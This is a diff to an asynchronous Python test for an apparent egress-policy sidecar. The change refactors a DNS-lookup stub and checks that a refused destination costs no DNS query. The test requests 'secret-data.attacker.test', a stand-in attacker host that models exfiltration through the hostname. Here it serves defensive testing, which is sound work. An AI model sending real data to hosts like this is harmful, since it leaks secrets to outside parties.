@@ -146,8 +146,13 @@ async def test_a_name_without_addresses_is_a_dns_failure() -> None:
 async def test_nothing_is_resolved_for_a_refused_name() -> None:
     """A destination outside of the policy costs no DNS query."""
     asked: list[str] = []
+
+    def asking(name: str) -> list[str]:
+        asked.append(name)
+        return []
+
     async with Sidecar(policy_text(80)) as sidecar:
-        sidecar.booth.pool._resolver._lookup = lambda name: asked.append(name) or []
+        sidecar.booth.pool._resolver._lookup = asking
         await sidecar.get("http://secret-data.attacker.test/")
         assert asked == []
 
